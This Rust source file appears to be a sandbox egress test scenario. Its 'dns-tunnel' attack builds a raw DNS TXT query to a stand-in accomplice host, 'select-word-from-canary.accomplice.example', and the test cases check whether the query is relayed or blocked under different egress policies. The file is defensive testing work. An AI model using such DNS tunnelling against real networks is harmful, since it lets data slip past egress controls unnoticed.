//! Questions for names carry text to whoever serves the names, and the answers carry text back: the
//! accomplice is a resolver. Where there is any egress policy, questions go to Weir instead, which
//! passes nobody's text on.

use std::net::{SocketAddr, UdpSocket};

use anyhow::Result;

use super::relay;
use crate::{
    attack::{Outcome, Target, patience},
    props,
    scenario::{Case, Scenario, blocked},
    stage::{Prop, Stage, THIRD},
};

const PORT: u16 = 53;

pub(super) const SCENARIO: Scenario = Scenario::new(
    "dns-tunnel",
    "asks an accomplice that passes for a resolver, by a question for a name",
    attack,
    &[
        Case::bridge(relay::gap),
        Case::host(relay::gap),
        // Listed is even the resolver: questions go to Weir all the same.
        Case::bridge(blocked).with_egress(RESOLVER),
        Case::host(blocked).with_egress(RESOLVER),
        Case::bridge(blocked).with_egress("\"none\""),
        Case::host(blocked).with_egress("\"none\""),
    ],
)
.with(accomplice);

const RESOLVER: &str = "[\"10.78.0.2:53\"]";

fn accomplice(stage: &Stage) -> Result<Prop> {
    let (udp, listen) = (libc::IPPROTO_UDP.to_string(), format!("{THIRD}:{PORT}"));
    props::one(stage, &["datagram", &udp, &listen])
}

fn attack(target: &Target) -> Result<Outcome> {
    let address: SocketAddr = format!("{THIRD}:{PORT}").parse()?;
    let socket = UdpSocket::bind(SocketAddr::new(target.own_v4().into(), 0))?;
    socket.set_read_timeout(Some(patience() * 6))?;
    if let Err(error) = socket.send_to(&question(), address) {
        return Ok(Outcome::stopped("sendto", &error));
    }
    let mut reply = vec![0; 4096];
    match socket.recv(&mut reply) {
        Ok(count) => Ok(Outcome::Reply(reply.get(..count).unwrap_or_default().to_vec())),
        Err(error) => Ok(Outcome::stopped("recv", &error)),
    }
}

/// What is the TXT record of `select-word-from-canary.accomplice.example`?
fn question() -> Vec<u8> {
    let mut message = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["select-word-from-canary", "accomplice", "example"] {
        message.push(u8::try_from(label.len()).unwrap_or_default());
        message.extend(label.as_bytes());
    }
    message.extend([0, 0, 16, 0, 1]);
    message
}
